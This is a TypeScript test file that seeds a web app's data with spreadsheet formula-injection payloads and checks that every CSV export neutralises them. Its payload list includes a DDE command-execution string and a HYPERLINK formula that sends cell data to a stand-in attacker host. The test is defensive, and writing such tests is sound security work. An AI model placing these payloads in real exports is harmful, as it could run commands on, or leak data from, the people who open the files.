import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { ServerBuild } from '@remix-run/node'
import { aDemo, type TestDemo } from '#tests/support/demo.ts'
import { screensBuilt } from '#tests/support/built.ts'
import { served, type Served } from '#tests/support/served.ts'
import { thingsOf, type DemoThings } from './demo-things.ts'
import { poison } from './polyglots.ts'
import { matrix, roles } from './route-matrix.ts'

const formulas = [
  `=cmd|'/c calc'!A1`,
  '+1+1',
  '-1-1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
  'a;=1+1',
  'a\t=1+1',
  '"=1+1',
  `,=HYPERLINK("https://evil.example/?"&A1;"x")`,
]

let demo: TestDemo
let site: Served
let things: DemoThings
let build: ServerBuild

beforeAll(async () => {
  build = await screensBuilt()
  demo = await aDemo()
  const { db } = demo.ground
  things = await thingsOf(db)
  const writings = formulas.map((formula) => (mark: string) => formula + mark)
  await poison(db, writings)
  // Names of places come from a list of ours; here they too try to be formulas.
  await sql`update territories t set name = (${formulas}::text[])[1 + numbered.place % ${formulas.length}] || t.name
    from (select code, row_number() over (order by code) as place from territories where level = 'region') numbered
    where numbered.code = t.code`.execute(db)
  site = await served({ ground: demo.ground, screens: true })
}, 400_000)
afterAll(async () => {
  await site.close()
  await demo.close()
})

/** Where a cell would begin to be computed: at its start, or where another kind of spreadsheet parts it. */
const computed = /(?:^|[;\t])\s*[=+\-@|%＝＋－＠]/

test('nothing that somebody wrote is computed by the spreadsheet that opens an export', async () => {
  const exported = new Map<string, string>()
  for (const [id, { visits = [] }] of Object.entries(matrix)) {
    if (build.routes[id]?.module.default) continue
    for (const visit of visits) {
      for (const role of roles) {
        const headers: Record<string, string> = role === 'guest' ? {} : { Cookie: await demo.cookieOf(role) }
        const answer = await fetch(site.url + visit.path(things), { headers, redirect: 'manual' })
        if (answer.headers.get('content-type')?.startsWith('text/csv')) exported.set(id, await answer.text())
      }
    }
  }
  expect([...exported.keys()]).toContain('routes/statistics[.]csv')
  for (const [id, text] of exported) {
    const rows = parse(text, { bom: true })
    expect(rows.length, id).toBeGreaterThan(1)
    for (const cell of rows.flat()) if (!/^-?[\d.]+$/.test(cell)) expect(cell, id).not.toMatch(computed)
  }
  // They were really there, to be disarmed.
  expect([...exported.values()].join()).toMatch(
    /'(?:=cmd|\+1\+1|-1-1|@SUM|\t=1|\r=1| =1|＝1|＋1|－1|＠SUM|\||%)|;'=1/,
  )
})
